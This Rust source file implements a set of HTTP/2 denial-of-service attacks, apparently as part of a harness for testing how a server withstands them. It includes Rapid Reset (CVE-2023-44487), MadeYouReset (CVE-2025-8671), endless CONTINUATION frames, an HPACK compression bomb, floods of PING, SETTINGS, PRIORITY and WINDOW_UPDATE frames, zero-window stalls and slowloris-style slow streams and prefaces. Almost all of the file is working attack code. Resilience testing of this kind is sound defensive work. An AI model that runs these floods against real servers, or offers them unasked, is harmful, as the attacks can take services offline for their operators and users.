//! Attacks by HTTP/2: frames that cost the server more than the client, and streams that never end.

use std::io;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::time::sleep;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Method, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame, head, preface, streams, told_to_go,
};
use super::{Attack, End, until_ended};

/// How many frames go out in one write.
const BATCH: usize = 100;
const INITIAL_WINDOW_SIZE: u16 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// A window must not be opened beyond 2^31 - 1 (RFC 9113, section 6.9.1).
const TOO_FAR: [u8; 4] = [0x7f, 0xff, 0xff, 0xff];

fn get(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &head(Method::Get, path))
}

fn post(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &head(Method::Post, path))
}

async fn begin(writer: &mut OwnedWriteHalf) -> io::Result<()> {
    writer.write_all(&preface(&[])).await
}

/// Sends these bytes for ever.
async fn repeat(mut writer: OwnedWriteHalf, bytes: &[u8]) -> io::Result<()> {
    loop {
        writer.write_all(bytes).await?;
    }
}

/// Rapid reset (CVE-2023-44487): asks and takes it back.
#[derive(Debug, Clone, Copy)]
pub(crate) struct RapidReset;

impl Attack for RapidReset {
    async fn attack(self, stream: TcpStream) -> io::Result<End> {
        ask_and_end(stream, |number| frame(RST_STREAM, 0, number, &CANCEL)).await
    }
}

/// Made-you-reset (CVE-2025-8671): asks, and makes the server take it back by an error of the stream.
#[derive(Debug, Clone, Copy)]
pub(crate) struct MadeReset;

impl Attack for MadeReset {
    async fn attack(self, stream: TcpStream) -> io::Result<End> {
        ask_and_end(stream, |number| frame(WINDOW_UPDATE, 0, number, &TOO_FAR)).await
    }
}

/// Asks on stream after stream, and ends each at once by a frame of its own.
async fn ask_and_end(stream: TcpStream, ending: fn(u32) -> Vec<u8>) -> io::Result<End> {
    let send = async |mut writer: OwnedWriteHalf| {
        begin(&mut writer).await?;
        let mut streams = streams();
        loop {
            let batch = streams.by_ref().take(BATCH);
            let frames = batch.flat_map(|number| [get(number, "/sleep?ms=100"), ending(number)]);
            writer.write_all(&frames.flatten().collect::<Vec<u8>>()).await?;
        }
    };
    until_ended(stream, send, told_to_go).await
}

/// A head that goes on and on, in frames of this many bytes.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Continuations {
    pub(crate) bytes: usize,
}

impl Attack for Continuations {
    async fn attack(self, stream: TcpStream) -> io::Result<End> {
        let send = async |mut writer: OwnedWriteHalf| {
            begin(&mut writer).await?;
            writer.write_all(&frame(HEADERS, 0, 1, &head(Method::Get, "/hello"))).await?;
            // Headers of 100 bytes that are not to be remembered (RFC 7541, section 6.2.2).
            let header = [b"\0\x01x\x60".as_slice(), &[b'y'; 96]].concat();
            let payload = header.repeat(self.bytes / header.len());
            repeat(writer, &frame(CONTINUATION, 0, 1, &payload).repeat(BATCH)).await
        };
        until_ended(stream, send, told_to_go).await
    }
}

/// HPACK bomb: a header that is sent once and said a thousand times, in one byte each.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Bomb;

impl Attack for Bomb {
    async fn attack(self, stream: TcpStream) -> io::Result<End> {
        let send = async |mut writer: OwnedWriteHalf| {
            begin(&mut writer).await?;
            // To be remembered (RFC 7541, section 6.2.1), with a value of 4000 bytes: 127 + 33 + 30 * 128.
            let large = [b"\x40\x01x\x7f\xa1\x1e".as_slice(), &[b'y'; 4000]].concat();
            for stream in streams() {
                let payload = [head(Method::Get, "/hello"), large.clone(), vec![0xbe; 8000]].concat();
                writer.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, stream, &payload)).await?;
            }
            Ok(())
        };
        until_ended(stream, send, told_to_go).await
    }
}

/// Frames of a few bytes that the server has to do something about.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Flood {
    Pings,
    Settings,
    Priorities,
    /// Opens the connection's window by a byte each.
    Windows,
    /// Opens the connection's window beyond what there is.
    Overflow,
}

impl Attack for Flood {
    async fn attack(self, stream: TcpStream) -> io::Result<End> {
        let send = async |mut writer: OwnedWriteHalf| {
            begin(&mut writer).await?;
            repeat(writer, &self.frame().repeat(BATCH)).await
        };
        until_ended(stream, send, told_to_go).await
    }
}

impl Flood {
    /// The same flood by a client that reads nothing of what comes back.
    pub(crate) fn unread(self) -> impl Attack {
        Unread(self)
    }

    fn frame(self) -> Vec<u8> {
        match self {
            Self::Pings => frame(PING, 0, 0, b"flooding"),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
            Self::Priorities => frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 1]),
            Self::Windows => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
            Self::Overflow => frame(WINDOW_UPDATE, 0, 0, &TOO_FAR),
        }
    }
}

#[derive(Debug, Clone, Copy)]
struct Unread(Flood);

impl Attack for Unread {
    async fn attack(self, mut stream: TcpStream) -> io::Result<End> {
        stream.write_all(&preface(&[])).await?;
        loop {
            stream.write_all(&self.0.frame().repeat(BATCH)).await?;
        }
    }
}

/// A body in frames of this many bytes each, for a service that does not read it.
#[derive(Debug, Clone, Copy)]
pub(crate) struct DataFrames {
    pub(crate) bytes: usize,
}

impl Attack for DataFrames {
    async fn attack(self, stream: TcpStream) -> io::Result<End> {
        let send = async |mut writer: OwnedWriteHalf| {
            begin(&mut writer).await?;
            writer.write_all(&post(1, "/hang")).await?;
            repeat(writer, &frame(DATA, 0, 1, &vec![0; self.bytes]).repeat(BATCH)).await
        };
        until_ended(stream, send, told_to_go).await
    }
}

/// Asks for this on a hundred streams, whose windows it never opens.
#[derive(Debug, Clone, Copy)]
pub(crate) struct NoWindow(pub(crate) &'static str);

impl Attack for NoWindow {
    async fn attack(self, stream: TcpStream) -> io::Result<End> {
        let send = async |mut writer: OwnedWriteHalf| {
            writer.write_all(&preface(&[(INITIAL_WINDOW_SIZE, 0)])).await?;
            for stream in streams().take(100) {
                writer.write_all(&get(stream, self.0)).await?;
            }
            std::future::pending().await
        };
        until_ended(stream, send, told_to_go).await
    }
}

/// Slowloris in the bodies of a hundred streams.
#[derive(Debug, Clone, Copy)]
pub(crate) struct SlowStreams {
    pub(crate) pause: Duration,
}

impl Attack for SlowStreams {
    async fn attack(self, stream: TcpStream) -> io::Result<End> {
        let send = async |mut writer: OwnedWriteHalf| {
            begin(&mut writer).await?;
            let all = || streams().take(100);
            for stream in all() {
                writer.write_all(&post(stream, "/upload")).await?;
            }
            loop {
                for stream in all() {
                    writer.write_all(&frame(DATA, 0, stream, b"x")).await?;
                }
                sleep(self.pause).await;
            }
        };
        until_ended(stream, send, told_to_go).await
    }
}

/// A preface that comes byte by byte, and stops before its end.
#[derive(Debug, Clone, Copy)]
pub(crate) struct SlowPreface {
    pub(crate) pause: Duration,
}

impl Attack for SlowPreface {
    async fn attack(self, stream: TcpStream) -> io::Result<End> {
        let send = async |mut writer: OwnedWriteHalf| {
            for byte in &PREFACE[..PREFACE.len() - 1] {
                writer.write_all(&[*byte]).await?;
                sleep(self.pause).await;
            }
            std::future::pending().await
        };
        until_ended(stream, send, told_to_go).await
    }
}
